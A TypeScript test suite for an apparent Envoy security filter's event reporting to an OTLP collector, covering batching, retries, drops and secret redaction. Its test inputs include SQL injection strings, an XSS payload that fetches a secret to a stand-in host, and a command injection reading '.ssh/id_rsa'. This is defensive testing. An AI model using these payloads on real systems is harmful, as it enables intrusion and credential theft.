// Events on the TypeScript host: what is sent, when, and what becomes of it where the collector is slow, full, broken or rude.

import assert from "node:assert/strict";
import { test } from "node:test";
import type { PolicySource } from "../../scripts/policy/schema.ts";
import { configurationOf, eventsIn, SQLI, startBench, type Bench } from "./bench.ts";
import { answerBody } from "./otlp.ts";

const TICK = 1000;

/** One event, of an attack that a test describes. */
async function eventOf(attack: Parameters<Bench["attack"]>[0], policy: PolicySource = {}) {
  const bench = await startBench(policy);
  bench.attack(attack);
  bench.envoy.advance(TICK);
  assert.ok(bench.taken.length > 0, "no event");
  return bench.taken[0]!;
}

test("a finding is one event, with all that is known of it", async () => {
  const bench = await startBench({ mode: "block" });
  bench.attack({ headers: [["traceparent", "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01"]] });
  assert.equal(bench.calls.length, 0, "nothing is sent but on the tick");
  bench.envoy.advance(TICK);
  const [{ time, attributes, ...event }] = bench.taken as [(typeof bench.taken)[0]];
  const { "meshward.request_id": requestId, "meshward.confidence": confidence, ...rest } = attributes;
  assert.match(time, /^2026-01-01T00:00:00\./);
  assert.match(requestId, /^[0-9a-f-]{36}$/);
  assert.ok(confidence >= 60);
  assert.equal(event.resource["meshward.policy"]?.length, 12);
  delete event.resource["meshward.policy"];
  assert.deepEqual(event, {
    event_name: "meshward.finding",
    severity_number: 21,
    severity_text: "critical",
    body: "sqli-union-select: sqli attempted",
    trace_id: "0af7651916cd43dd8448eb211c80319c",
    span_id: "b7ad6b7169203331",
    resource: {
      "service.name": "cart",
      "service.namespace": "shop",
      "service.instance.id": "cart-1",
      "meshward.version": event.resource["meshward.version"],
    },
  });
  assert.deepEqual(rest, {
    "security_rule.name": "sqli-union-select",
    "security_rule.category": "sqli",
    "security_rule.ruleset.name": "meshward",
    "meshward.stage": "attempted",
    "meshward.severity": "critical",
    "meshward.cwe": [89],
    "meshward.part": "query",
    "meshward.parameter": "id",
    "meshward.evidence": "9{1} UNION SELECT password FROM",
    "meshward.outcome": "denied",
    "meshward.mode": "block",
    "meshward.principal": "10.0.0.9",
    "meshward.direction": "inbound",
    "http.request.method": "GET",
    "http.route": "/items/{number}",
    "http.response.status_code": 403,
    "server.address": "shop.example",
    "url.scheme": "http",
  });
  const [{ headers, cluster, timeout }] = bench.calls as [(typeof bench.calls)[0]];
  assert.equal(cluster, "meshward_otlp");
  assert.ok(timeout > 0);
  assert.deepEqual(
    headers.toJSON().filter(([name]) => name !== "user-agent"),
    [
      [":method", "POST"],
      [":path", "/v1/logs"],
      [":authority", "collector:4318"],
      [":scheme", "http"],
      ["content-type", "application/x-protobuf"],
    ],
  );
});

test("clean requests, and a policy without a collector, send nothing", async () => {
  const clean = await startBench();
  clean.plugin.exchange({ path: "/items/17?name=anna" }, {});
  clean.envoy.advance(TICK);
  assert.equal(clean.calls.length, 0);
  const silent = await startBench({ events: undefined } as PolicySource);
  silent.attack();
  silent.envoy.advance(TICK);
  assert.equal(silent.calls.length, 0);
  assert.equal(silent.count("events_dropped_total"), 0);
});

test("a clean request makes the same host calls with events as without, and a finding costs a few after its stream has ended", async () => {
  const callsOf = async (policy: PolicySource, work: (bench: Bench) => void): Promise<string[]> => {
    const bench = await startBench(policy);
    bench.hostCalls.length = 0;
    work(bench);
    return bench.hostCalls;
  };
  const without = { events: undefined } as PolicySource;
  const get = (bench: Bench): void => void bench.plugin.exchange({ path: "/items/17?name=anna" }, {});
  const post = (bench: Bench): void =>
    void bench.plugin.exchange(
      { method: "POST", path: "/a", headers: [["content-type", "application/json"]] },
      { body: '{"a":"b"}' },
    );
  for (const clean of [get, post]) assert.deepEqual(await callsOf({}, clean), await callsOf(without, clean));
  const attack = (bench: Bench): void => bench.attack();
  const plain = await callsOf(without, attack);
  const found = await callsOf({}, attack);
  assert.deepEqual(found.slice(0, plain.length), plain);
  assert.deepEqual(found.slice(plain.length), [
    "proxy_get_current_time_nanoseconds",
    "proxy_get_property",
    "proxy_get_property",
  ]);
});

test("a finding in a body has the request's line, too; one that is excepted says by what", async () => {
  const event = await eventOf(
    {
      method: "POST",
      path: "/users/9f1c2d3e4b5a/search",
      headers: [["content-type", "application/json"]],
      body: `{"q":"1 UNION SELECT a FROM b"}`,
    },
    { exceptions: [{ id: "search-sql", class: "sqli", path: "/users/**", why: "people search for SQL" }] },
  );
  const { attributes } = event;
  assert.equal(attributes["http.request.method"], "POST");
  assert.equal(attributes["http.route"], "/users/{hex}/search");
  assert.equal(attributes["server.address"], "shop.example");
  assert.equal(attributes["meshward.part"], "json");
  assert.equal(attributes["meshward.parameter"], "/q");
  assert.equal(attributes["meshward.exception"], "search-sql");
  assert.equal(attributes["meshward.outcome"], "allowed");
});

test("what each response shows is told once an hour, and again where it has become sure", async () => {
  const bench = await startBench({ observe: { sample: "100%" } });
  const asked = (site: string): string[] => {
    bench.plugin.exchange(
      {
        path: "/api/me",
        headers: [
          ["host", "shop.example"],
          ["origin", site],
          ["cookie", "session=a"],
        ],
      },
      {
        response: {
          status: 200,
          headers: [
            ["content-type", "application/json"],
            ["access-control-allow-origin", site],
            ["access-control-allow-credentials", "true"],
          ],
          body: "{}",
        },
      },
    );
    const before = bench.taken.length;
    bench.envoy.advance(TICK);
    return bench.taken
      .slice(before)
      .filter(({ attributes }) => attributes["security_rule.name"] === "header-cors-reflected")
      .map(({ attributes }) => attributes["meshward.stage"]);
  };
  const [one, two] = ["https://one.test", "https://two.test"];
  assert.deepEqual([one, one, two, two, one].map(asked), [["likely"], [], ["confirmed"], [], []]);
});

test("a route of the policy names the endpoint where it is one", async () => {
  const routes = [{ match: { path: "/items/{item}" } }, { match: { path: "/**" } }];
  assert.equal((await eventOf({}, { routes })).attributes["http.route"], "/items/{item}");
  assert.equal((await eventOf({ path: `/a/17?id=${SQLI}` }, { routes })).attributes["http.route"], "/a/{number}");
});

test("the token goes along, and only one that can stand in a header", async () => {
  const authorization = async (token: string): Promise<string | null> => {
    const bench = await startBench({}, { environment: { MESHWARD_OTLP_TOKEN: token } });
    bench.attack();
    bench.envoy.advance(TICK);
    return bench.calls[0]!.headers.text("authorization");
  };
  assert.equal(await authorization("s3cret-token"), "Bearer s3cret-token");
  assert.equal(await authorization("x".repeat(4096)), `Bearer ${"x".repeat(4096)}`);
  for (const bad of ["x".repeat(4097), "two words", "line\r\nbreak: 1", "ümlaut"])
    assert.equal(await authorization(bad), null, bad);
});

test("batches are bounded, one call is open at a time, and an answer brings the next one", async () => {
  const bench = await startBench();
  bench.answers.push(null);
  for (let i = 0; i < 200; i++) bench.attack();
  // 64 KiB do not wait for the tick.
  assert.equal(bench.calls.length, 1);
  bench.envoy.advance(TICK);
  assert.equal(bench.calls.length, 1);
  const sizes = (): number[] => bench.calls.map(({ body }) => body.length);
  bench.calls[0]!.respond({ headers: [[":status", "200"]] });
  assert.ok(Math.max(...sizes()) <= 65_536 && sizes()[0]! > 60_000, String(sizes()));
  assert.equal(bench.calls.flatMap(eventsIn).length, 200);
  bench.envoy.advance(TICK);
  assert.equal(bench.count("events_sent_total"), 200);
  assert.equal(bench.count("events_dropped_total"), 0);
});

test("a full ring drops the newest, and counts them", async () => {
  const bench = await startBench();
  bench.answers.push(null);
  const total = 1000;
  for (let i = 0; i < total; i++) bench.attack({ headers: [["x-request-id", uuid(i)]] });
  bench.calls[0]!.respond({ headers: [[":status", "200"]] });
  bench.envoy.advance(2 * TICK);
  const ids = bench.calls.flatMap(eventsIn).map(({ attributes }) => attributes["meshward.request_id"]);
  assert.ok(ids.length > 200 && ids.length < total, String(ids.length));
  assert.deepEqual(
    ids,
    ids.map((_, i) => uuid(i)),
    "the first ones, in order",
  );
  assert.equal(bench.count("events_dropped_total"), total - ids.length);
  assert.equal(bench.count("events_sent_total"), ids.length);
});

test("what goes round in the ring comes out as it went in, in order", async () => {
  const bench = await startBench();
  let made = 0;
  // Lengths that never fit the end of the ring, and batches of all sizes.
  for (let round = 0; round < 60; round++) {
    for (let i = 0; i < (round * 7) % 40; i++) {
      const path = `/items/17?${"n".repeat((made * 13) % 120)}=${SQLI}`;
      bench.attack({ path, headers: [["x-request-id", uuid(made++)]] });
    }
    bench.envoy.advance(TICK);
  }
  bench.envoy.advance(TICK);
  assert.ok(bench.calls.reduce((sum, { body }) => sum + body.length, 0) > 3 * 262_144, "it goes round");
  assert.deepEqual(
    bench.taken.map(({ attributes }) => attributes["meshward.request_id"]),
    Array.from({ length: made }, (_, i) => uuid(i)),
  );
});

const uuid = (i: number): string => `00000000-0000-4000-8000-${String(i).padStart(12, "0")}`;

for (const [name, answer] of [
  ["429", { status: 429 }],
  ["503", { status: 503 }],
  ["500", { status: 500 }],
  ["no host", "no host"],
  ["no cluster", "no cluster"],
] as const) {
  test(`${name}: tried again later and later, until it is taken`, async () => {
    const bench = await startBench();
    const attempts: number[] = [];
    for (let i = 0; i < 9; i++) bench.answers.push(answer);
    const start = bench.envoy.clock.now;
    bench.attack();
    let left = bench.answers.length;
    while (bench.taken.length === 0 && bench.envoy.clock.now - start < 1_000_000) {
      bench.envoy.advance(TICK);
      if (bench.answers.length < left || bench.taken.length > 0) attempts.push((bench.envoy.clock.now - start) / TICK);
      left = bench.answers.length;
    }
    const waits = attempts.slice(1).map((time, i) => time - attempts[i]!);
    assert.equal(attempts.length, 10);
    waits.forEach((wait, i) => {
      const most = Math.min(60, 2 ** (i + 1));
      assert.ok(wait >= most / 2 && wait <= most + 2, `wait ${i}: ${wait} of ${most} s`);
    });
    bench.envoy.advance(TICK);
    assert.equal(bench.count("events_sent_total"), 1);
    assert.equal(bench.count("events_dropped_total"), 0);
    const told = bench.lines.filter((line) => line.includes("does not take events"));
    assert.ok(told.length >= 1 && told.length <= 5, told.join("\n"));
  });
}

test("Retry-After is kept to, within bounds", async () => {
  const waitAfter = async (value: string): Promise<number> => {
    const bench = await startBench();
    bench.answers.push({ status: 503, headers: [["retry-after", value]] });
    bench.attack();
    let seconds = 0;
    for (; bench.taken.length === 0 && seconds < 1000; seconds++) bench.envoy.advance(TICK);
    return seconds - 1;
  };
  const near = (wait: number, wanted: number): boolean => wait >= wanted && wait <= wanted + 2;
  assert.ok(near(await waitAfter("30"), 30));
  assert.ok(near(await waitAfter("86400"), 300), "at most 5 minutes");
  for (const useless of ["", "soon", "-5", "1e3", "Wed, 21 Oct 2026 07:28:00 GMT", "99999999999999999999"]) {
    assert.ok((await waitAfter(useless)) <= 3, useless);
  }
});

test("what the collector refuses for good is dropped and counted", async () => {
  for (const status of [400, 401, 404, 413, 301, 100, 999]) {
    const bench = await startBench();
    bench.answers.push({ status });
    bench.attack();
    bench.attack();
    bench.envoy.advance(TICK);
    bench.attack();
    bench.envoy.advance(2 * TICK);
    assert.equal(bench.count("events_dropped_total"), 2, String(status));
    assert.equal(bench.count("events_sent_total"), 1, String(status));
    assert.ok(bench.lines.some((line) => line.includes(`HTTP ${status}`) && line.includes("dropped")));
  }
});

test("of a batch that was taken in part the rest is counted; no answer can count more than was sent", async () => {
  const dropped = async (body: Uint8Array): Promise<number> => {
    const bench = await startBench();
    bench.answers.push({ status: 200, body });
    for (let i = 0; i < 5; i++) bench.attack();
    bench.envoy.advance(2 * TICK);
    const count = bench.count("events_dropped_total");
    assert.equal(bench.count("events_sent_total"), 5 - count);
    return count;
  };
  assert.equal(await dropped(answerBody(2, "two are bad")), 2);
  assert.equal(await dropped(answerBody(0)), 0);
  assert.equal(await dropped(answerBody(1_000_000)), 5);
  assert.equal(await dropped(answerBody(-1)), 5);
  // A field before it, groups, torn varints and lengths, and another message altogether.
  assert.equal(await dropped(Buffer.from("12034142430a020803", "hex")), 3);
  for (const odd of [
    "0a",
    "0aff",
    "0a0208",
    "0b0c",
    "08ffffffffffffffffffffff01",
    "0a80808080808080808001",
    "0a0108",
    "3c68746d6c3e",
  ]) {
    assert.equal(await dropped(Buffer.from(odd, "hex")), 0, odd);
  }
  assert.equal(await dropped(Buffer.alloc(100_000, 0x0a)), 0);
});

test("an answer that is slow is waited for, one that never comes is timed out by Envoy, and the batch goes again", async () => {
  const bench = await startBench();
  bench.answers.push(null);
  bench.attack();
  bench.envoy.advance(9 * TICK);
  assert.equal(bench.calls.length, 1);
  bench.attack();
  bench.envoy.advance(10 * TICK);
  assert.deepEqual(
    bench.calls.map((call) => eventsIn(call).length),
    [1, 2],
  );
  bench.envoy.advance(TICK);
  assert.equal(bench.count("events_sent_total"), 2);
});

test("unsent events go over to the next policy, under the name of theirs", async () => {
  const bench = await startBench();
  bench.answers.push({ status: 503, headers: [["retry-after", "5"]] });
  bench.attack();
  bench.envoy.advance(TICK);
  const first = bench.calls[0]!;
  bench.push({ mode: "block" });
  bench.attack();
  bench.envoy.advance(10 * TICK);
  const sent = bench.calls.slice(1).map(eventsIn);
  assert.deepEqual(
    sent.map((events) => events.map(({ attributes }) => attributes["meshward.mode"])),
    [["detect"], ["block"]],
  );
  const policies = sent.map(([event]) => event!.resource["meshward.policy"]);
  assert.equal(policies[0], eventsIn(first)[0]!.resource["meshward.policy"]);
  assert.notEqual(policies[0], policies[1]);
  assert.notEqual(bench.calls[1]!.root.id, first.root.id, "the new root sends");
});

test("a push in the middle of a call waits for its answer, and sends nothing twice", async () => {
  const bench = await startBench();
  bench.answers.push(null);
  bench.attack();
  bench.envoy.advance(TICK);
  bench.push({ mode: "block" });
  bench.attack();
  bench.envoy.advance(3 * TICK);
  assert.equal(bench.calls.length, 1, "the old root's call is open");
  bench.calls[0]!.respond({ headers: [[":status", "200"]] });
  bench.envoy.advance(2 * TICK);
  assert.equal(bench.calls.length, 2);
  assert.deepEqual(
    eventsIn(bench.calls[1]!).map(({ attributes }) => attributes["meshward.mode"]),
    ["block"],
  );
  assert.equal(bench.count("events_sent_total"), 2);
});

test("plugins that share a VM share the ring, and one that goes leaves it to the other", async () => {
  const bench = await startBench({ mode: "block" });
  const other = await bench.another("other", { mode: "detect" });
  const attackOther = (): void => void other.exchange({ path: `/other?id=${SQLI}` }, {});
  bench.attack();
  attackOther();
  bench.envoy.advance(2 * TICK);
  assert.deepEqual(
    bench.taken.map(({ attributes }) => attributes["http.route"]),
    ["/items/{number}", "/other"],
  );
  // The newest root sends; it goes while its call is open, and then the older one does.
  bench.answers.push(null);
  attackOther();
  bench.envoy.advance(TICK);
  const open = bench.calls.at(-1)!;
  other.configure(configurationOf({ events: undefined } as PolicySource));
  bench.attack();
  bench.envoy.advance(2 * TICK);
  assert.equal(bench.calls.at(-1), open);
  open.respond({ headers: [[":status", "503"]] });
  bench.envoy.advance(5 * TICK);
  assert.equal(bench.taken.length, 4);
  assert.notEqual(bench.calls.at(-1)!.root.id, open.root.id);
  assert.equal(bench.count("events_dropped_total"), 0);
});

test("streams that outlive their policy still tell what they find", async () => {
  const bench = await startBench();
  const stream = bench.plugin.openStream({
    request: {
      method: "POST",
      path: "/a",
      headers: [
        ["host", "shop"],
        ["content-type", "application/json"],
      ],
    },
  });
  stream.sendHeaders(false);
  bench.push({ events: undefined } as PolicySource);
  stream.sendBody('{"q":"1 UNION SELECT a FROM b"}', true);
  stream.end();
  bench.envoy.advance(2 * TICK);
  assert.equal(bench.taken.length, 1);
  assert.equal(bench.taken[0]!.attributes["meshward.parameter"], "/q");
  assert.equal(bench.count("events_sent_total"), 1);
});

test("a policy that names no collector any more ends it: one last call, and the rest is counted as dropped", async () => {
  const bench = await startBench();
  bench.answers.push(null, null);
  for (let i = 0; i < 150; i++) bench.attack();
  const last = bench.calls[0]!;
  bench.push({ events: undefined } as PolicySource);
  last.respond({ headers: [[":status", "200"]] });
  bench.envoy.advance(3 * TICK);
  const sent = bench.calls.map((call) => eventsIn(call).length);
  assert.equal(bench.calls.length, 1);
  assert.equal(bench.count("events_sent_total"), sent[0]);
  assert.equal(bench.count("events_dropped_total"), 150 - sent[0]!);

  const idle = await startBench();
  idle.attack();
  idle.push({ events: undefined } as PolicySource);
  assert.equal(idle.calls.length, 1, "with no call open it makes one");
  assert.equal(idle.taken.length, 1);
});

test("hostile hosts, names, paths and methods make well-formed events", async () => {
  const bytes = (text: string): Uint8Array => Buffer.from(text, "latin1");
  const hosts = [
    bytes("\xff\xfe\x80"),
    "a".repeat(5000),
    "[::1]:80",
    "x\u202e\u0000\u001b[31m",
    "",
    ":80",
    bytes("é".repeat(200)),
  ];
  const names = ["%00%01", "%ff%fe", "n".repeat(5000), "%F0%9F%98%80".repeat(100), "%1b%5b31m", "<script>", "%C2%85"];
  const paths = [
    "/%27%20OR/",
    "/" + "a/".repeat(500),
    "/" + "b".repeat(5000),
    "//",
    "/\u00e9",
    "*",
    "",
    "/a/../b",
    `/${"%41".repeat(300)}`,
  ];
  const methods = ["GET", "X".repeat(300), "PROPFIND"];
  const bench = await startBench();
  for (const host of hosts) bench.attack({ host });
  for (const name of names) bench.attack({ path: `/a?${name}=${SQLI}` });
  for (const path of paths) bench.attack({ path: `${path}?id=${SQLI}` });
  for (const method of methods) bench.attack({ method });
  bench.envoy.advance(2 * TICK);
  // `eventsIn` has held each against the schema, which bounds every text.
  assert.ok(
    bench.taken.length >= hosts.length + names.length + paths.length + methods.length - 2,
    String(bench.taken.length),
  );
  for (const event of bench.taken) {
    assert.doesNotMatch(JSON.stringify(event.attributes), /[\u0000-\u001f\u007f-\u009f]|\\u00[01]/);
  }
  assert.equal(bench.envoy.traps, 0);
});

test("an event has nothing of a secret in a value, however it is sent", async () => {
  const bench = await startBench();
  const secrets: string[] = [];
  let seed = 7;
  const random = (below: number): number => (seed = (seed * 48_271) % 2_147_483_647) % below;
  for (let i = 0; i < 300; i++) {
    const secret = Array.from(
      { length: 8 + random(24) },
      () => "abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789"[random(56)],
    ).join("");
    secrets.push(secret);
    const attack = [
      `${secret}' OR '1'='1`,
      `1 UNION SELECT ${secret} FROM users`,
      `<script>fetch('//x/${secret}')</script>`,
      `; cat /home/${secret}/.ssh/id_rsa`,
    ][i % 4]!;
    const encoded = encodeURIComponent(attack);
    const json = { method: "POST", headers: [["content-type", "application/json"]] as [string, string][] };
    bench.attack(
      [
        { path: `/a?q=${encoded}` },
        { path: `/${encoded}/x` },
        {
          path: "/a",
          headers: [
            ["cookie", `s=${encoded}`],
            ["x-custom", attack],
          ] as [string, string][],
        },
        { ...json, path: "/a", body: JSON.stringify({ deep: [{ er: attack }] }) },
        { path: `/a?u=${secret}&q=${encoded}`, headers: [["authorization", `Bearer ${secret}`]] as [string, string][] },
      ][i % 5]!,
    );
    if (i % 50 === 49) bench.envoy.advance(TICK);
  }
  bench.envoy.advance(2 * TICK);
  const text = Buffer.concat(bench.calls.map(({ body }) => body)).toString("latin1");
  assert.ok(bench.taken.length >= 250, String(bench.taken.length));
  assert.deepEqual(
    secrets.filter((secret) => text.includes(secret)),
    [],
  );
});

test("10,000 findings with ever new hosts and paths: memory stays as it is", { timeout: 120_000 }, async () => {
  const bench = await startBench();
  const { memory } = bench.plugin.process.vms()[0]!;
  const before = memory.size;
  for (let i = 0; i < 10_000; i++) {
    bench.attack({ path: `/p${i}x${i * 7919}/y${i}?n${i}=${SQLI}`, host: `h${i}.example` });
    if (i % 100 === 0) bench.envoy.advance(TICK);
  }
  bench.envoy.advance(2 * TICK);
  assert.equal(memory.size, before);
  assert.equal(bench.taken.length, 10_000);
  assert.equal(bench.count("events_sent_total"), 10_000);
});

test("a configuration that names a collector in part is bad", async () => {
  const bench = await startBench();
  for (const events of [
    {},
    { cluster: "c", authority: "a" },
    { cluster: "", authority: "a", path: "/" },
    { cluster: "c".repeat(513), authority: "a", path: "/" },
    [],
  ]) {
    const configuration = { ...JSON.parse(configurationOf({})), events };
    assert.equal(bench.plugin.configure(JSON.stringify(configuration)).accepted, false, JSON.stringify(events));
  }
});
